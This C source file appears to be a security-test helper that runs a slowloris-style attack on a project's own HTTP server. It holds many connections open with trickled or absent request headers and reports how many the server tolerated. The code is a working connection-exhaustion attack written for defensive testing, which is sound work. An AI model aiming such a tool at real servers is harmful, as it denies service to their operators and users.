/*
 * A hostile HTTP client for tests/security/http_attacks.sh: holds many
 * connections open the way slowloris does, to show what the daemons' HTTP
 * server (common/httpd.c) lets one address keep.
 *
 *   httpattack HOST PORT slow N SECONDS
 *       opens N connections, each sending the start of a request and then
 *       one more header byte every second, never finishing it; after
 *       SECONDS prints "OK ACCEPTED OPEN LONGEST_MS": how many connections
 *       the server let send their first bytes without closing them at
 *       once, how many were still open at the end, and the longest time
 *       (ms, to within 100) an accepted connection stayed open (SECONDS
 *       * 1000 when one never closed).
 *   httpattack HOST PORT idle N SECONDS
 *       the same with connections that send nothing at all.
 *
 * Exit status 0 when it ran, 2 on a usage error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static long long
mono_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (long long) ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int
usage(void)
{
	fprintf(stderr, "usage: httpattack HOST PORT slow|idle N SECONDS\n");
	return 2;
}

/* Still open: no EOF or error pending (a closed peer reads 0 or fails). */
static int
still_open(int fd)
{
	struct pollfd p = {fd, POLLIN, 0};
	if (poll(&p, 1, 0) <= 0)
		return 1;
	char buf[512];
	ssize_t n = recv(fd, buf, sizeof(buf), MSG_DONTWAIT);
	return n > 0 || (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK));
}

int
main(int argc, char **argv)
{
	if (argc != 6)
		return usage();
	int slow = strcmp(argv[3], "slow") == 0;
	if (!slow && strcmp(argv[3], "idle") != 0)
		return usage();
	int n = atoi(argv[4]), seconds = atoi(argv[5]);
	if (n <= 0 || n > 100000 || seconds <= 0)
		return usage();
	struct sockaddr_in sa = {0};
	sa.sin_family = AF_INET;
	sa.sin_port = htons((uint16_t) atoi(argv[2]));
	if (inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
		return usage();
	int *fd = calloc((size_t) n, sizeof(int));
	long long *opened = calloc((size_t) n, sizeof(long long));
	if (fd == NULL || opened == NULL)
		return 1;
	static const char start[] = "GET /healthz HTTP/1.1\r\nHost: x\r\nX-Slow: ";
	for (int i = 0; i < n; i++) {
		fd[i] = socket(AF_INET, SOCK_STREAM, 0);
		if (fd[i] < 0 || connect(fd[i], (struct sockaddr *) &sa, sizeof(sa)) != 0) {
			if (fd[i] >= 0)
				close(fd[i]);
			fd[i] = -1;
			continue;
		}
		opened[i] = mono_ms();
		if (slow && send(fd[i], start, sizeof(start) - 1, MSG_NOSIGNAL) < 0) {
			close(fd[i]);
			fd[i] = -1;
		}
	}
	/* A refused connection is accepted and closed at once: give the
	 * server a moment, then count who is left. */
	struct timespec ms200 = {0, 200 * 1000 * 1000};
	nanosleep(&ms200, NULL);
	int accepted = 0;
	for (int i = 0; i < n; i++) {
		if (fd[i] >= 0 && !still_open(fd[i])) {
			close(fd[i]);
			fd[i] = -1;
		}
		accepted += fd[i] >= 0;
	}
	/* Checked every 100 ms, a byte sent every second. */
	long long longest = 0;
	for (int t = 1; t <= seconds * 10; t++) {
		struct timespec ms100 = {0, 100 * 1000 * 1000};
		nanosleep(&ms100, NULL);
		for (int i = 0; i < n; i++) {
			if (fd[i] < 0)
				continue;
			if (!still_open(fd[i]) ||
			    (slow && t % 10 == 0 && send(fd[i], "a", 1, MSG_NOSIGNAL) < 0)) {
				long long lived = mono_ms() - opened[i];
				longest = lived > longest ? lived : longest;
				close(fd[i]);
				fd[i] = -1;
			}
		}
	}
	int open = 0;
	for (int i = 0; i < n; i++) {
		if (fd[i] >= 0 && still_open(fd[i])) {
			open++;
			longest = (long long) seconds * 1000;
		}
		if (fd[i] >= 0)
			close(fd[i]);
	}
	printf("OK %d %d %lld\n", accepted, open, longest);
	free(fd);
	free(opened);
	return 0;
}
